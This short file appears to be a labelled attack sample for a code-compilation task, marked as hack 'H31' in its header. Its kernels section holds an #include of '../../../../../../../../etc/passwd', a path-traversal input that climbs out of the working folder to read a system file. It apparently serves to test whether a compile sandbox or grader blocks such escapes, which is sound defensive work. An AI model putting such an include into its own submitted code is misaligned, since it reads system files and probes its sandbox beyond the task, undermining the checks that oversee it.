# class: compile
# task: affine, template: affine
# hack: H31 a path that climbs out of any folder

# ---- kernels
#include "../../../../../../../../etc/passwd"

<kernels>
